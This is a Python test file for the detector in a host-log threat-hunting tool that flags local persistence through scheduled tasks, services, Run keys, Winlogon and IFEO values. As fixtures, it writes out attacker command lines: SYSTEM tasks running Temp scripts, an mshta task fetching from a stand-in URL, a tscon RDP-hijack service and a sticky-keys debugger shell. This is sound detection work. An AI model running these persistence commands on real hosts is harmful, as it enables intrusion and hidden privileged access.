"""Tasks and services made on the host itself (DQ-HOST-018): persistence or local execution,
not lateral movement; severity from what they run, known-good updaters quiet. Real samples
from mdecrevoisier/EVTX-to-MITRE-Attack (CC0, tests/data/PROVENANCE.md) and synthetic JSON
exports (host_builders.event_line)."""

from __future__ import annotations

from pathlib import Path

from host_builders import event_line

from duqhunt.hostscan import scan_host
from duqhunt.model import Finding

DATA = Path(__file__).resolve().parents[1] / "data" / "host"
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _by(findings: list[Finding], det: str) -> list[Finding]:
    return [f for f in findings if f.detector == det]


def _d(f: Finding) -> dict[str, object]:
    return dict(f.details)


def _scan(tmp_path: Path, lines: list[str]) -> list[Finding]:
    p = tmp_path / "events.jsonl"
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return scan_host([p]).findings


# --- real samples ----------------------------------------------------------------------------


def test_real_local_system_task_running_a_script_is_persistence() -> None:
    """schtasks /create /tr C:\\tools\\shell.cmd /ru SYSTEM (4688) and its 4698, one session."""
    res = scan_host([DATA / "md_schtasks_local_4688_4698.evtx"])
    hits = _by(res.findings, "DQ-HOST-018")
    assert len(hits) == 1
    f = hits[0]
    assert f.stage == "installation" and f.attack == ("T1053.005",)
    assert f.severity == "high", f.title
    d = _d(f)
    assert d["runs"] == "C:\\tools\\shell.cmd" and d["name"] == "\\eviltask"
    # the account it runs as, from the 4698's task XML: S-1-5-18, the well-known SID of SYSTEM
    assert d["run_as"] == "S-1-5-18"
    assert "runs a script" in str(d["reasons"]) and "SYSTEM" in str(d["reasons"])
    # the 4688 and the 4698 are one finding
    assert {e.summary for e in f.evidence} == {"event 4688", "event 4698"}
    assert _by(res.findings, "DQ-HOST-009") == [] and _by(res.findings, "DQ-HOST-011") == []


def test_real_local_service_running_a_shell() -> None:
    """sc.exe create hijackservice binpath= "cmd.exe /k tscon ..." and its 4697 (RDP hijack)."""
    res = scan_host([DATA / "md_sc_create_rdp_hijack_4688_4697.evtx"])
    hits = _by(res.findings, "DQ-HOST-018")
    assert len(hits) == 1
    f = hits[0]
    assert f.attack == ("T1543.003",) and f.severity == "high"
    assert str(_d(f)["runs"]).startswith("cmd.exe /k tscon")
    assert _d(f)["run_as"] == "LocalSystem"  # 4697's ServiceAccount
    assert [x for x in res.findings if x.stage == "lateral-movement"] == []


def test_real_service_path_changed_to_a_temp_folder() -> None:
    """sc config xboxgip binPath= C:\\windows\\system32\\pentestlab.exe, then reg add
    ...\\Services\\xboxgip /v ImagePath /d C:\\tmp\\pentestlab.exe: the worse value counts."""
    res = scan_host([DATA / "md_sc_config_reg_imagepath_4688.evtx"])
    hits = _by(res.findings, "DQ-HOST-018")
    assert len(hits) == 1
    d = _d(hits[0])
    assert d["runs"] == "C:\\tmp\\pentestlab.exe" and hits[0].severity == "high"
    assert len(hits[0].evidence) == 2


# --- synthetic exports -----------------------------------------------------------------------


def _proc(t: str, image: str, command: str, lid: str = "0x51a2", rec: int = 1) -> str:
    return event_line(
        t,
        4688,
        {
            "NewProcessName": image,
            "CommandLine": command,
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
            "SubjectLogonId": lid,
            "SubjectUserName": "alice",
            "SubjectDomainName": "CORP",
            "TargetLogonId": "0x0",
            "ProcessId": "0x1f0",
        },
        record=rec,
    )


def _task(t: str, name: str, command: str, user: str, lid: str = "0x51a2", rec: int = 2) -> str:
    content = (
        '<Task><Actions Context="Author"><Exec><Command>'
        + command
        + '</Command></Exec></Actions><Principals><Principal id="Author"><UserId>'
        + user
        + "</UserId></Principal></Principals></Task>"
    )
    return event_line(
        t,
        4698,
        {
            "SubjectLogonId": lid,
            "SubjectUserName": "alice",
            "SubjectDomainName": "CORP",
            "TaskName": name,
            "TaskContent": content,
        },
        record=rec,
    )


SCHTASKS = "C:\\Windows\\System32\\schtasks.exe"


def test_system_task_running_a_script_from_temp_is_high(tmp_path: Path) -> None:
    cmd = "C:\\Users\\alice\\AppData\\Local\\Temp\\u.ps1"
    findings = _scan(
        tmp_path,
        [
            _proc(
                "2024-03-05T10:00:00Z", SCHTASKS, f"schtasks /create /tn Upd /tr {cmd} /ru SYSTEM"
            ),
            _task("2024-03-05T10:00:01Z", "\\Upd", cmd, "S-1-5-18"),
        ],
    )
    hits = _by(findings, "DQ-HOST-018")
    assert len(hits) == 1 and hits[0].severity == "high"
    reasons = str(_d(hits[0])["reasons"])
    assert "writable folder" in reasons and "runs a script" in reasons
    assert not _by(findings, "DQ-HOST-009") and not _by(findings, "DQ-HOST-011")


def test_admin_task_running_a_program_files_binary_is_low(tmp_path: Path) -> None:
    cmd = "C:\\Program Files\\Backup\\backup.exe"
    findings = _scan(
        tmp_path,
        [
            _proc("2024-03-05T10:00:00Z", SCHTASKS, f'schtasks /create /tn Nightly /tr "{cmd}"'),
            _task("2024-03-05T10:00:01Z", "\\Nightly", cmd, "CORP\\alice"),
        ],
    )
    hits = _by(findings, "DQ-HOST-018")
    assert len(hits) == 1 and hits[0].severity == "low"


def test_known_good_vendor_updater_task_is_quiet(tmp_path: Path) -> None:
    good = "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe"
    fake = "C:\\Users\\alice\\AppData\\Local\\Temp\\GoogleUpdate.exe"
    findings = _scan(
        tmp_path,
        [
            _proc("2024-03-05T10:00:00Z", SCHTASKS, "schtasks /create /xml g.xml /tn x"),
            _task("2024-03-05T10:00:01Z", "\\GoogleUpdateTaskMachineUA", good, "S-1-5-18"),
            _task("2024-03-05T10:00:02Z", "\\GoogleUpdateTaskMachineCore", fake, "S-1-5-18", rec=3),
        ],
    )
    names = [_d(f)["name"] for f in _by(findings, "DQ-HOST-018")]
    # the genuine updater is quiet; the same name running a copy in Temp is not
    assert "\\GoogleUpdateTaskMachineUA" not in names
    assert "\\GoogleUpdateTaskMachineCore" in names


def test_task_made_for_another_host_is_not_local(tmp_path: Path) -> None:
    findings = _scan(
        tmp_path,
        [_proc("2024-03-05T10:00:00Z", SCHTASKS, "schtasks /create /s fs02 /tn t /tr c:\\x.exe")],
    )
    assert not _by(findings, "DQ-HOST-018")
    assert _by(findings, "DQ-HOST-015")


def test_task_from_a_network_logon_stays_lateral_movement(tmp_path: Path) -> None:
    """The same 4698 in a session that logged on over the network (atexec) is DQ-HOST-009's."""
    logon = event_line(
        "2024-03-05T09:59:59Z",
        4624,
        {
            "LogonType": "3",
            "TargetLogonId": "0x77aa",
            "TargetUserName": "adm",
            "TargetDomainName": "CORP",
            "IpAddress": "10.1.2.3",
        },
    )
    findings = _scan(
        tmp_path,
        [logon, _task("2024-03-05T10:00:00Z", "\\x", "cmd.exe /c whoami", "S-1-5-18", "0x77aa")],
    )
    assert not _by(findings, "DQ-HOST-018")
    assert [f.severity for f in _by(findings, "DQ-HOST-009")] == ["high"]


def test_sysmon_schtasks_running_mshta_url(tmp_path: Path) -> None:
    line = event_line(
        "2024-03-05T10:00:00Z",
        1,
        {
            "Image": SCHTASKS,
            "CommandLine": 'schtasks /Create /sc MINUTE /TN MSOFFICE_ /TR "mshta.exe https://x.test/a"',
            "ParentImage": "C:\\Windows\\System32\\mshta.exe",
            "User": "WS1\\bob",
            "LogonId": "0x1234",
            "ProcessId": "400",
            "ParentProcessId": "300",
        },
        channel=SYSMON,
    )
    hits = _by(_scan(tmp_path, [line]), "DQ-HOST-018")
    assert len(hits) == 1 and hits[0].severity == "high"
    reasons = str(_d(hits[0])["reasons"])
    assert "URL" in reasons and "created by mshta.exe" in reasons


def test_dash_syntax_and_installer_tasks(tmp_path: Path) -> None:
    """schtasks takes -create -tn as well as /create /tn; tasks an installer registers in
    Windows' own folder from an XML (Windows Update's rempl, seen in a real Sysmon log) are
    known-good, a script in Users\\Public is not."""
    findings = _scan(
        tmp_path,
        [
            _proc(
                "2024-03-05T10:00:00Z",
                SCHTASKS,
                "schtasks.exe -create -tn Microsoft\\Windows\\rempl\\shell -xml rempl.xml -F",
            ),
            _proc(
                "2024-03-05T10:00:05Z",
                SCHTASKS,
                "schtasks.exe -create -tn Sync -tr C:\\Users\\Public\\sync.bat -ru SYSTEM",
                rec=2,
            ),
        ],
    )
    hits = {str(_d(f)["name"]): f for f in _by(findings, "DQ-HOST-018")}
    assert set(hits) == {"Sync"}
    assert hits["Sync"].severity == "high"


# --- registry values (Sysmon 13) -------------------------------------------------------------


def _regset(t: str, image: str, target: str, details: str, rec: int = 1) -> str:
    return event_line(
        t,
        13,
        {"EventType": "SetValue", "Image": image, "TargetObject": target, "Details": details},
        channel=SYSMON,
        record=rec,
    )


RUN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\"


def test_run_key_written_through_wmi_is_high(tmp_path: Path) -> None:
    """WMI's StdRegProv (a script or another host) setting a Run value that runs rundll32: the
    registry write WmiPrvSE.exe makes for a remote `reg` over WMI."""
    line = _regset(
        "2024-03-05T10:00:00Z",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe",
        RUN + "wmipers",
        "rundll32.exe a.dll, DllMain",
    )
    hits = _by(_scan(tmp_path, [line]), "DQ-HOST-018")
    assert len(hits) == 1
    f = hits[0]
    assert f.severity == "high" and f.attack == ("T1547.001", "T1047")
    assert _d(f)["kind"] == "run-key" and _d(f)["name"] == "wmipers"


def test_hidden_run_value_and_quiet_writers(tmp_path: Path) -> None:
    lines = [
        # a Run value whose name does not show (a leading NUL), running from Windows\Tasks
        _regset(
            "2024-03-05T10:00:00Z",
            "C:\\Users\\Public\\a.exe",
            RUN,
            '"c:\\windows\\tasks\\taskhost.exe"',
        ),
        # the Service Control Manager recording an install: DQ-HOST-010 reads its 7045
        _regset(
            "2024-03-05T10:00:01Z",
            "C:\\Windows\\system32\\services.exe",
            "HKLM\\System\\CurrentControlSet\\Services\\x\\ImagePath",
            "C:\\Users\\Public\\x.exe",
            rec=2,
        ),
        # Process Monitor registering its driver (known good)
        _regset(
            "2024-03-05T10:00:02Z",
            "C:\\Users\\tony\\AppData\\Local\\Temp\\Procmon64.exe",
            "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\PROCMON23\\ImagePath",
            "\\??\\C:\\Windows\\system32\\Drivers\\PROCMON23.SYS",
            rec=3,
        ),
        # a value the detector does not read
        _regset(
            "2024-03-05T10:00:03Z",
            "C:\\Users\\Public\\a.exe",
            "HKLM\\System\\CurrentControlSet\\Services\\x\\Start",
            "DWORD (0x00000002)",
            rec=4,
        ),
    ]
    hits = _by(_scan(tmp_path, lines), "DQ-HOST-018")
    assert len(hits) == 1, [f.title for f in hits]
    assert hits[0].severity == "high"
    assert "no visible name" in str(_d(hits[0])["reasons"])


def test_registry_events_filtered_before_decoding() -> None:
    """Only the Sysmon 13 of autorun values are decoded (a Sysmon log holds thousands of
    registry events)."""
    from duqhunt.sources.host.eventlog import WANTED, _wanted_text

    run = _regset("2024-03-05T10:00:00Z", "C:\\x.exe", RUN + "v", "c:\\x.exe")
    other = _regset("2024-03-05T10:00:00Z", "C:\\x.exe", RUN[:-4] + "Policies\\v", "1")
    # the EVTX reader sees the record's JSON without spaces after the colons
    assert _wanted_text(run.replace('": ', '":'), WANTED)
    assert not _wanted_text(other.replace('": ', '":'), WANTED)


# --- autostart values beyond services and Run keys (Winlogon, IFEO, SilentProcessExit) -------

NT = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\"


def test_real_sticky_keys_debugger_is_high() -> None:
    """reg.exe setting cmd.exe as the IFEO Debugger of sethc.exe (Sysmon 12 creates the key, 13
    sets the value): a SYSTEM shell at the logon screen."""
    hits = _by(
        scan_host([DATA / "md_ifeo_sethc_debugger_sysmon_12_13.evtx"]).findings, "DQ-HOST-018"
    )
    assert len(hits) == 1, [f.title for f in hits]
    f = hits[0]
    assert f.severity == "high" and f.attack == ("T1546.012",)
    d = _d(f)
    assert d["kind"] == "ifeo" and d["name"] == "sethc.exe" and d["creator"] == "reg.exe"
    assert str(d["runs"]).lower() == "c:\\windows\\system32\\cmd.exe"
    assert "logon screen" in str(d["reasons"])


def test_winlogon_and_exit_monitor_values(tmp_path: Path) -> None:
    """A Winlogon Shell that starts a program from AppData before explorer.exe is high; Windows
    writing back its own Userinit and Shell is quiet; a SilentProcessExit MonitorProcess is
    reported; Process Explorer as Task Manager's debugger is known good; an IFEO value that is
    not a Debugger (GlobalFlag) is not read."""
    hku = "HKU\\S-1-5-21-1-2-3-1000\\Software\\Microsoft\\Windows NT\\CurrentVersion\\"
    lines = [
        _regset("2024-03-05T10:00:00Z", "C:\\Users\\bob\\Downloads\\a.exe", hku + "Winlogon\\Shell",
                '"C:\\Users\\bob\\AppData\\Roaming\\x\\b.exe",explorer.exe', rec=1),
        _regset("2024-03-05T10:00:01Z", "C:\\Windows\\system32\\svchost.exe",
                NT + "Winlogon\\Userinit", "C:\\Windows\\system32\\userinit.exe,", rec=2),
        _regset("2024-03-05T10:00:02Z", "C:\\Windows\\system32\\svchost.exe",
                NT + "Winlogon\\Shell", "explorer.exe", rec=3),
        _regset("2024-03-05T10:00:03Z", "C:\\Windows\\system32\\reg.exe",
                NT + "SilentProcessExit\\notepad.exe\\MonitorProcess", "C:\\windows\\temp\\e.exe",
                rec=4),
        _regset("2024-03-05T10:00:04Z", "C:\\Windows\\system32\\reg.exe",
                NT + "Image File Execution Options\\notepad.exe\\GlobalFlag", "DWORD (0x00000200)",
                rec=5),
        _regset("2024-03-05T10:00:05Z", "C:\\Tools\\procexp64.exe",
                NT + "Image File Execution Options\\taskmgr.exe\\Debugger",
                '"C:\\Tools\\procexp64.exe"', rec=6),
    ]  # fmt: skip
    got = {
        (_d(f)["kind"], _d(f)["name"], f.severity, f.attack)
        for f in _by(_scan(tmp_path, lines), "DQ-HOST-018")
    }
    assert got == {
        ("winlogon", "Shell", "high", ("T1547.004",)),
        ("ifeo", "notepad.exe", "high", ("T1546.012",)),
    }


def test_real_empire_run_key_and_defender_tray_value() -> None:
    """OTRF's Empire Run key persistence (nxlog JSON, tests/data/PROVENANCE.md): PowerShell
    writes Run\\Updater running a hidden, encoded PowerShell read back from the registry: high.
    Defender's MsMpEng.exe writing its tray program into Run\\WindowsDefender is known good;
    Winlogon's other values (LastLogOffEndTimePerfCounter, ShutdownFlags) are not autostarts."""
    hits = _by(
        scan_host([DATA / "otrf_empire_run_key_sysmon_13_lsass_7.json"]).findings, "DQ-HOST-018"
    )
    assert len(hits) == 1, [f.title for f in hits]
    f = hits[0]
    d = _d(f)
    assert f.severity == "high" and f.attack == ("T1547.001",)
    assert d["name"] == "Updater" and d["creator"] == "powershell.exe"
    assert "hidden window or an encoded command" in str(d["reasons"])


def test_real_sysmon_13_of_the_service_manager_is_an_install() -> None:
    """mimidrv's install seen only as the Service Control Manager's Sysmon 13 (ImagePath
    `\\??\\C:\\TOOLS\\...\\mimidrv.sys`, no 7045 in the log): DQ-HOST-010 reads it as a kernel
    driver installed from outside System32\\drivers; DQ-HOST-018 leaves services.exe's writes to it."""
    res = scan_host([DATA / "md_mimidrv_service_sysmon_13.evtx"])
    (f,) = _by(res.findings, "DQ-HOST-010")
    d = _d(f)
    assert f.severity == "medium" and d["service"] == "mimidrv" and d["kernel"] is True
    assert (
        str(d["image_path"]).lower() == "c:\\tools\\security_tool\\mimikatz-fev-2020\\mimidrv.sys"
    )
    assert d["event_id"] == 13
    assert not _by(res.findings, "DQ-HOST-018")


def test_service_manager_write_of_a_logged_install_is_not_a_second_one(tmp_path: Path) -> None:
    """When the 7045 of the service is in the logs, its Sysmon 13 adds no second finding."""
    lines = [
        event_line(
            "2024-03-05T10:00:00Z",
            7045,
            {
                "ServiceName": "evil",
                "ImagePath": "C:\\Users\\Public\\evil.exe",
                "ServiceType": "user mode service",
            },
            channel="System",
        ),
        _regset(
            "2024-03-05T10:00:00Z",
            "C:\\Windows\\system32\\services.exe",
            "HKLM\\System\\CurrentControlSet\\Services\\evil\\ImagePath",
            "C:\\Users\\Public\\evil.exe",
            rec=2,
        ),
    ]
    hits = _by(_scan(tmp_path, lines), "DQ-HOST-010")
    assert [_d(f)["event_id"] for f in hits] == [7045]


def test_pipe_and_wmi_events_filtered_before_decoding() -> None:
    """Sysmon 18 (a pipe connected) is decoded only when the connecting image is "System", the
    server side of a pipe opened over SMB (DQ-HOST-017); every WMI filter (19) is decoded:
    DQ-HOST-015 joins it with the consumer (20) and the binding (21) into one subscription."""
    from duqhunt.sources.host.eventlog import WANTED, _wanted_text

    t = "2024-03-05T10:00:00Z"
    pipe = {"EventType": "ConnectPipe", "PipeName": "\\srvsvc"}
    remote = event_line(t, 18, {**pipe, "Image": "System"}, channel=SYSMON)
    local = event_line(t, 18, {**pipe, "Image": "C:\\x\\client.exe"}, channel=SYSMON)
    wmi = {"EventType": "WmiFilterEvent", "Operation": "Created", "Name": "f", "Query": "q"}
    filt = event_line(t, 19, wmi, channel=SYSMON)
    assert _wanted_text(remote.replace('": ', '":'), WANTED)
    assert not _wanted_text(local.replace('": ', '":'), WANTED)
    assert _wanted_text(filt.replace('": ', '":'), WANTED)


def test_a_process_start_without_image_names_is_kept() -> None:
    """The process prefilter drops only what it can read as uninteresting: a process start
    whose record names neither image nor parent (an exporter that renamed the fields) is
    decoded and left to the detectors."""
    from duqhunt.sources.host.eventlog import _process_needed

    assert _process_needed('{"ProcessId":"4","CommandLine":"x"}')
    assert _process_needed('{"ProcessId":"0x4"}', 4688)
